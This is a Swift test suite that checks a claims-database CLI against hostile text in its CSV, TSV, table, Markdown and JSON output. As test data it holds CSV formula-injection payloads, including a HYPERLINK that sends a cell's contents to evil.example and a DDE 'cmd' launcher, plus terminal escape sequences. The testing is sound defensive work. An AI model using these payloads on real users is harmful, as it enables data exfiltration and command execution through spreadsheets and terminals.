import Foundation
import GRDB
import Testing

/// Text from articles is data wherever it is printed: a line break in a cell never starts a
/// row, a cell that starts like a formula is not run by a spreadsheet, and escape sequences
/// reach a terminal as visible text. The articles of `Fixtures/xref` are stored, then their
/// titles, URLs, outlets, sentences and figure texts are made hostile in place, so that the
/// tests hold the output whatever the normalizers let through.
@Suite(.serialized) struct HostileTextOutputTests {
    let db: String

    /// Written into the database before each test; each column starts as a formula would.
    static let title = "@SUM(A1) \u{1B}]0;pwned\u{07}\u{1B}]8;;http://evil.example/\u{1B}\\link\u{1B}]8;;\u{1B}\\ "
    static let sentence = "=HYPERLINK(\"http://evil.example/\"&A1) \u{1B}[2J\u{1B}[H\u{08}\u{08}\u{9B}31m\u{7F} "
    static let figure = "-1+2 A\r\n=1+2\u{2028}b\u{2029}c\u{85}d\u{0B}f\u{0C}g\u{1E}h"
    static let url = "\t=cmd|' /C calc'!A0 "
    static let outlet = "\r+cmd "
    /// Every scalar that starts a new line somewhere: in a terminal, a spreadsheet, an editor
    /// or Python's `str.splitlines`.
    static let lineBreaks: Set<Unicode.Scalar> = ["\n", "\r", "\u{0B}", "\u{0C}", "\u{1C}", "\u{1D}", "\u{1E}", "\u{85}", "\u{2028}", "\u{2029}"]

    init() throws {
        db = try TestPaths.scratch().appendingPathComponent("claims.db").path
        let run = try CLI.run(["ingest", "--db", db, TestPaths.fixture("xref").path])
        #expect(run.status == 0, "\(run.stderr)")
        try DatabaseQueue(path: db).write { db in
            try db.execute(sql: "UPDATE articles SET title = ? || coalesce(title, ''), url = ? || coalesce(url, ''), outlet = ?",
                           arguments: [Self.title, Self.url, Self.outlet])
            try db.execute(sql: "UPDATE claims SET text = ? || text", arguments: [Self.sentence])
            try db.execute(sql: "UPDATE figures SET text = ? || text", arguments: [Self.figure])
            try db.execute(sql: "UPDATE figures SET value = -2.5, low = -2.5, high = -2.5 WHERE id = (SELECT min(id) FROM figures)")
        }
    }

    private func run(_ arguments: [String]) throws -> String {
        let run = try CLI.run(arguments + ["--db", db])
        #expect(run.status == 0, "\(arguments): \(run.stderr)")
        return run.stdout
    }

    /// How many rows the JSON output of the same command has.
    private func rowCount(_ arguments: [String]) throws -> Int {
        let rows = try #require(try CLI.json(try run(arguments + ["--format", "json"])) as? [Any])
        #expect(rows.count > 1, "\(arguments)")
        return rows.count
    }

    /// The lines of `text`, split at every line break scalar (CR LF once).
    static func lines(_ text: String) -> [String] {
        var lines: [String] = []
        var line = String.UnicodeScalarView()
        var previous: Unicode.Scalar = " "
        for scalar in text.unicodeScalars {
            if lineBreaks.contains(scalar) {
                if !(scalar == "\n" && previous == "\r") { lines.append(String(line)) }
                line = String.UnicodeScalarView()
            } else {
                line.append(scalar)
            }
            previous = scalar
        }
        if !line.isEmpty { lines.append(String(line)) }
        return lines
    }

    /// The records of CSV, where only a LF (or CR LF) outside quotes ends one, and how many
    /// other line breaks stand outside quotes, where some reader would start a row.
    static func csvRecords(_ text: String) -> (count: Int, strayBreaks: Int) {
        var records = 0, stray = 0
        var quoted = false
        var previous: Unicode.Scalar = " "
        for scalar in text.unicodeScalars {
            if scalar == "\"" { quoted.toggle() }
            if !quoted && scalar == "\n" { records += 1 }
            if !quoted && lineBreaks.contains(scalar) && scalar != "\n" && scalar != "\r" { stray += 1 }
            if !quoted && previous == "\r" && scalar != "\n" { stray += 1 }
            previous = scalar
        }
        return (records, stray)
    }

    @Test func aLineBreakInACellNeverStartsARow() throws {
        for command in [["find"], ["xref"], ["sql", "SELECT c.text, f.text AS figure, a.title FROM figures f JOIN claims c ON c.id = f.claim_id JOIN articles a ON a.id = c.article_id"]] {
            let rows = try rowCount(command)
            let csv = try run(command + ["--format", "csv"])
            #expect(Self.csvRecords(csv) == (rows + 1, 0), "\(command) csv")
            #expect(try OutputFormatTests.csv(csv).count == rows + 1, "\(command) csv")
            let tsv = Self.lines(try run(command + ["--format", "tsv"]))
            #expect(tsv.count == rows + 1, "\(command) tsv")
            #expect(Set(tsv.map { $0.split(separator: "\t", omittingEmptySubsequences: false).count }).count == 1, "\(command) tsv")
            // a header and a rule, then the rows
            #expect(Self.lines(try run(command + ["--format", "markdown"])).count == rows + 2, "\(command) markdown")
            #expect(Self.lines(try run(command + ["--format", "table"])).count == rows + 2, "\(command) table")
        }
        let figures = try #require(try CLI.json(try run(["sql", "SELECT count(*) AS n FROM figure_details", "--format", "json"])) as? [[String: Any]])
        let export = try run(["export", "--format", "csv"])
        #expect(Self.csvRecords(export) == ((figures.first?["n"] as? Int ?? 0) + 1, 0))
        // the cells hold the text as stored
        let stored = try OutputFormatTests.csv(try run(["find", "--format", "csv"])).dropFirst().map { $0[4] }.filter { !$0.isEmpty }
        #expect(!stored.isEmpty && stored.allSatisfy { $0.contains(String(Self.figure.unicodeScalars.dropFirst(4))) }, "\(stored)")
    }

    /// What a spreadsheet runs as a formula when a cell starts with it (OWASP, "CSV Injection").
    static let formulaStarts: Set<Unicode.Scalar> = ["=", "+", "-", "@", "\t", "\r"]

    private func startsLikeFormula(_ cell: String) -> Bool {
        cell.unicodeScalars.first.map(Self.formulaStarts.contains) ?? false
    }

    @Test func cellsThatStartLikeFormulasAreTextToASpreadsheet() throws {
        let rows = try OutputFormatTests.csv(try run(["export", "--format", "csv"]))
        let header = try #require(rows.first)
        func cells(_ column: String) -> [String] {
            guard let index = header.firstIndex(of: column) else { return [] }
            return rows.dropFirst().map { $0[index] }
        }
        let expected = [("figure", Self.figure), ("sentence", Self.sentence), ("article_title", Self.title), ("url", Self.url),
                        ("outlet", Self.outlet)]
        for (column, start) in expected {
            #expect(!cells(column).isEmpty && cells(column).allSatisfy { $0.hasPrefix("'" + start) }, "\(column): \(cells(column))")
        }
        // numbers stay numbers
        #expect(cells("value").contains("-2.5") && cells("low").contains("-2.5"), "\(cells("value"))")
        #expect(!cells("value").contains { $0.hasPrefix("'") })
        // --raw, for programs: the cells as stored
        let raw = try OutputFormatTests.csv(try run(["export", "--format", "csv", "--raw"]))
        #expect(raw.count == rows.count)
        if let index = header.firstIndex(of: "sentence") {
            #expect(raw.dropFirst().allSatisfy { $0[index].hasPrefix(Self.sentence) })
        }
        // every other CSV and TSV claimsdb writes does the same
        let sql = "SELECT f.text AS figure, f.value, c.text AS sentence FROM figures f JOIN claims c ON c.id = f.claim_id"
        for command in [["find"], ["xref"], ["xref", "--unsourced"], ["sql", sql], ["show", "1"]] {
            for format in ["csv", "tsv"] {
                let output = try run(command + ["--format", format])
                let cells = format == "csv" ? try OutputFormatTests.csv(output).flatMap { $0 }
                    : output.split(separator: "\n").flatMap { $0.split(separator: "\t", omittingEmptySubsequences: false).map(String.init) }
                #expect(cells.contains { $0.hasPrefix("'=HYPERLINK") }, "\(command) \(format)")
                #expect(!cells.contains { startsLikeFormula($0) && Double($0) == nil }, "\(command) \(format)")
                let raw = try run(command + ["--format", format, "--raw"])
                #expect(raw.contains("=HYPERLINK") && !raw.contains("'=HYPERLINK"), "\(command) \(format) --raw")
            }
        }
        let values = try OutputFormatTests.csv(try run(["sql", sql, "--format", "csv"])).dropFirst().map { $0[1] }
        #expect(values.contains("-2.5"), "\(values)")
    }

    /// Whether `text` holds a control a terminal would obey: C0 but LF, DEL, C1, or a separator.
    static func obeyable(_ text: String) -> Bool {
        text.unicodeScalars.contains { ($0.value < 0x20 && $0 != "\n") || (0x7F ... 0x9F).contains($0.value) || $0.value == 0x2028 || $0.value == 0x2029 }
    }

    @Test func controlCharactersReachATerminalAsVisibleText() throws {
        // tables and Markdown, for people: each control shown as \x1b
        let titles = "SELECT coalesce(title, '') AS title, url, outlet FROM articles"
        for command in [["find"], ["xref"], ["xref", "--unsourced"], ["show", "1"], ["sql", titles]] {
            for format in ["table", "markdown"] {
                let output = try run(command + ["--format", format])
                #expect(!Self.obeyable(output), "\(command) \(format): \(output)")
            }
        }
        let show = try run(["show", "1"])
        for shown in ["\\x1b[2J\\x1b[H\\x08\\x08\\x9b31m\\x7f", "\\x1b]0;pwned\\x07\\x1b]8;;http://evil.example/\\x1b\\link"] {
            #expect(show.contains(shown), "\(shown) in \(show)")
        }
        #expect(try run(["find"]).contains("\\x1b[2J"))
        let markdown = try run(["sql", titles, "--format", "markdown"])
        #expect(markdown.contains("\\x1b]0;pwned\\x07"), "\(markdown)")
        // JSON escapes them too, and reads back to the text as stored
        for format in ["json", "jsonl"] {
            let output = try run(["find", "--format", format])
            #expect(!Self.obeyable(output) && output.contains("\\u009b"), "\(format)")
        }
        let rows = try #require(try CLI.json(try run(["sql", "SELECT text FROM figures", "--format", "json"])) as? [[String: Any]])
        #expect(!rows.isEmpty && rows.allSatisfy { ($0["text"] as? String)?.hasPrefix(Self.figure) == true })
        // stderr lines that echo a file name or a query
        let folder = try TestPaths.scratch()
        let name = "evil\u{1B}]0;pwned\u{07}\u{1B}[2J\u{9B}\nnext.txt"
        try Data([0x41, 0x00, 0x42]).write(to: folder.appendingPathComponent(name))
        let ingest = try CLI.run(["ingest", "--db", db, folder.path])
        #expect(ingest.status == 1)
        #expect(!Self.obeyable(ingest.stderr) && ingest.stderr.contains("evil\\x1b]0;pwned\\x07\\x1b[2J\\x9b\\x0anext.txt"), "\(ingest.stderr)")
        for arguments in [["find", "--text", "\u{1B}[2J("], ["find", "--source", "\u{1B}]0;x\u{07}"], ["sql", "SELECT \u{1B}[2J"],
                          ["find", "--sort", "\u{1B}[2J"]] {
            let failed = try CLI.run(arguments + ["--db", db])
            #expect(failed.status != 0)
            #expect(!Self.obeyable(failed.stderr) && failed.stderr.contains("\\x1b"), "\(arguments): \(failed.stderr)")
        }
    }
}
